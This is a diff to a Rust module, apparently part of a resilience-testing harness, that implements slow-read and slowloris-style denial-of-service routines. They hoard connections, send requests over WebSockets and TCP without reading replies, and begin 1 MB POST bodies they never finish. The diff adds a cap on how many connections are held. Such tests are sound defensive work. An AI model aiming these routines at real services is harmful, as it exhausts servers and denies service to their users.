@@ -1,6 +1,6 @@
 //! Connections that take and give nothing back.
 
-use std::{net::SocketAddr, time::Duration};
+use std::{collections::VecDeque, net::SocketAddr, time::Duration};
 
 use futures_util::SinkExt;
 use rand::Rng;
@@ -11,7 +11,7 @@ use tokio_tungstenite::{client_async, tungstenite::Message};
 use super::client::{Attacker, post_request, rpc_body};
 
 /// Connections of one client: more than any of the targets may grant.
-const MANY: usize = 3_000;
+const MANY: usize = 2_500;
 
 /// Opens connections until there are many, does something to each, and holds them.
 async fn hoard(attacker: &mut Attacker, to: SocketAddr, first_words: &[u8]) -> Vec<TcpStream> {
@@ -23,6 +23,14 @@ async fn hoard(attacker: &mut Attacker, to: SocketAddr, first_words: &[u8]) -> V
         }
     }
     held
+}
+
+/// Holds one thing more, and lets go of the oldest when there are many: the attacker has a machine of its own limits.
+fn hold<T>(held: &mut VecDeque<T>, one: T) {
+    held.push_back(one);
+    if held.len() > MANY {
+        held.pop_front();
+    }
 }
 
 /// What has a long answer.
@@ -42,7 +50,7 @@ fn long_question(attacker: &mut Attacker) -> String {
 
 /// Sends requests over WebSockets and never reads.
 pub(super) async fn open_sockets_that_do_not_read(mut attacker: Attacker) {
-    let mut held = Vec::new();
+    let mut held = VecDeque::new();
     loop {
         let question = long_question(&mut attacker);
         let to = attacker.targets.rpc;
@@ -59,13 +67,13 @@ pub(super) async fn open_sockets_that_do_not_read(mut attacker: Attacker) {
             }
         })
         .await;
-        held.push(socket);
+        hold(&mut held, socket);
     }
 }
 
 /// Asks for long answers, many on each connection, and never reads.
 pub(super) async fn ask_without_reading(mut attacker: Attacker) {
-    let mut held = Vec::new();
+    let mut held = VecDeque::new();
     loop {
         let to = attacker.any_target();
         let request = if to == attacker.targets.rpc {
@@ -80,13 +88,13 @@ pub(super) async fn ask_without_reading(mut attacker: Attacker) {
             continue;
         };
         let _ = tokio::time::timeout(Duration::from_millis(200), stream.write_all(&request.repeat(20))).await;
-        held.push(stream);
+        hold(&mut held, stream);
     }
 }
 
 /// Begins bodies as long as they may be, and does not end them.
 pub(super) async fn begin_bodies(mut attacker: Attacker) {
-    let mut held = Vec::new();
+    let mut held = VecDeque::new();
     let body = vec![b' '; 1_000_000];
     loop {
         let to = attacker.any_target();
@@ -97,7 +105,7 @@ pub(super) async fn begin_bodies(mut attacker: Attacker) {
         let head = "POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 1048576\r\n\r\n";
         let _ = stream.write_all(head.as_bytes()).await;
         let _ = tokio::time::timeout(Duration::from_millis(200), stream.write_all(&body)).await;
-        held.push(stream);
+        hold(&mut held, stream);
     }
 }
 
